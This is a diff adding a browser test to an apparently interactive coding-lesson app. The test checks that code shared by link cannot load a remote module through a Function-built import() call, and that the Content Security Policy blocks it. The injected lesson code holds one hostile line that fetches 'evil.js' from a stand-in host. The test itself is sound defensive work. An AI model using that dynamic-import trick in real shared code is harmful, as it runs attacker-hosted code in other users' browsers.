@@ -105,3 +105,37 @@ export function nextPollDelay(): number {
   expect(errors).toEqual([]);
   await ctx.close();
 });
+
+test('code from a link cannot load a remote module with import() either', async ({ page, browser, consoleErrors: _ }) => {
+  const lesson = new LessonPage(page);
+  await lesson.open();
+  // import() is syntax, not a global, so only the Content Security Policy stops it.
+  await lesson.setCode(`export function nextPollDelay(): number {
+  const load = Function('u', 'return import(u)') as (u: string) => Promise<unknown>;
+  load('http://example.com/evil.js').catch(() => undefined);
+  return 1000;
+}
+`);
+  await lesson.run();
+  const link = await makeLink(lesson);
+
+  const ctx = await browser.newContext();
+  const other = await ctx.newPage();
+  const requests: string[] = [];
+  const errors: string[] = [];
+  const blocked: string[] = [];
+  other.on('request', (r) => requests.push(r.url()));
+  // Chromium reports a load the policy refused as a request that failed with "csp":
+  // it never reached the network.
+  other.on('requestfailed', (r) => r.failure()?.errorText === 'csp' && blocked.push(r.url()));
+  other.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
+  const reopened = new LessonPage(other);
+  await other.goto(link);
+  await reopened.waitReady();
+  await other.waitForTimeout(500);
+  expect(blocked.length).toBeGreaterThan(0);
+  expect(leftLocalhost(requests).filter((u) => !blocked.includes(u))).toEqual([]);
+  // The only complaints allowed are the browser's own reports of the blocked load.
+  expect(errors.filter((e) => !/Content Security Policy|evil\.js/.test(e))).toEqual([]);
+  await ctx.close();
+});
